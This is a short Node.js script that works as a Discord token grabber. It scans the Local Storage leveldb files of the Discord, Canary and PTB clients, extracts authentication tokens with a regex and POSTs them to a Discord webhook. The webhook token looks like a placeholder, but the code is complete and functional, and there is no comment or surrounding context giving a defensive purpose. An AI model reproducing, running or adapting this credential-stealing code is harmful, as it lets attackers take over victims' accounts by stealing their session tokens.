const fs = require("fs");
const path = require("path");
const https = require("https");

const webhook = "https://discord.com/api/webhooks/1122334455667788990/InertFixtureTokenAbCdEf";
const dirs = ["discord", "discordcanary", "discordptb"].map(d => path.join(process.env.APPDATA, d, "Local Storage", "leveldb"));

let tokens = [];
for (const dir of dirs) {
  if (!fs.existsSync(dir)) continue;
  for (const f of fs.readdirSync(dir)) {
    const text = fs.readFileSync(path.join(dir, f), "utf8");
    tokens = tokens.concat(text.match(/[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g) || []);
  }
}
const body = JSON.stringify({ content: tokens.join("\n") });
const req = https.request(webhook, { method: "POST", headers: { "Content-Type": "application/json" } });
req.write(body);
req.end();
